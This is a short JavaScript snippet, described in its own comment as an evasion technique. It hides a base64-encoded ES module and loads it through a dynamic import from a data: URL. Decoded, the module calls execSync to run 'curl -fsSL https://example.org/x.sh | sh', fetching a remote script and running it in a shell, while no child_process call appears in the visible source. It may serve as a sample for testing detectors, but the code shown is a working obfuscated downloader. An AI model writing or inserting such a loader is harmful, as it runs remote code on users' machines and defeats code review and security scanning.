// Evasion: the code that runs a shell is a base64 string imported as an ES
// module from a data: URL (dynamic import), so no call to child_process is
// visible in this file.
const payload = 'aW1wb3J0IHsgZXhlY1N5bmMgfSBmcm9tICdub2RlOmNoaWxkX3Byb2Nlc3MnOwpleHBvcnQgZGVmYXVsdCBleGVjU3luYygnY3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUub3JnL3guc2ggfCBzaCcpLnRvU3RyaW5nKCk7Cg==';
const url = ['data:text/javascript', 'base64,' + payload].join(';');
import(url).then((m) => console.log(m.default));
